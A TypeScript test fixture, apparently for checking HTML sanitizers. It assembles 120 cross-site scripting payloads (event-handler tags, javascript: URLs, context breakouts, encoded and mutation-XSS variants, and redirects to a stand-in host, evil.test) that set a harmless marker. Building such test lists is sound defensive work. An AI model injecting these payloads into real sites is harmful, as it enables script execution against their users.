// a hundred and twenty texts that run a script if a browser takes them for markup: every way to start a script, after every way to end the
// context in which the text may stand. A script that runs sets `window.__xss`.

const RUN = 'window.__xss=1'

const BEGINNINGS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;//evil.test/">`,
  `<style onload=${RUN}>*{color:red}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
]

/** What ends the context of a text: nothing, an attribute, a script, a title or text area, a comment. */
const ENDS = ['', '">', "'>", '</script>', '</title></textarea>', '--> ']

const WHOLE = [
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} style='position:fixed;inset:0`,
  `\`onfocus=${RUN} autofocus x=\``,
  `javascript:${RUN}`,
  `jAvAsCrIpT&colon;${RUN}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `[here](javascript:${RUN})`,
  `![x](javascript:${RUN})`,
  `[x](https://a.test" onmouseover=${RUN} ")`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}\`;${RUN};//`,
  `</script><script>${RUN}//`,
  `<!--<script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `＜img src=x onerror=${RUN}＞`,
  `<scr<script>ipt>${RUN}</script>`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `\u2067<b onclick=${RUN}>x\u2069`,
  `__proto__[srcdoc]=<script>${RUN}</script>`,
]

const EVERY = [...WHOLE, ...ENDS.flatMap((end) => BEGINNINGS.map((beginning) => end + beginning))]

/** Complete attacks first; the others alternate, so that the beginning of the list, however long, has some of each kind. */
export const HOSTILE_MARKUP: readonly string[] = EVERY.slice(0, WHOLE.length).concat(
  EVERY.slice(WHOLE.length)
    .map((text, at) => [(at * 7) % BEGINNINGS.length, at, text] as const)
    .sort(([a, at_a], [b, at_b]) => a - b || at_a - at_b)
    .map(([, , text]) => text)
    .slice(0, 120 - WHOLE.length),
)
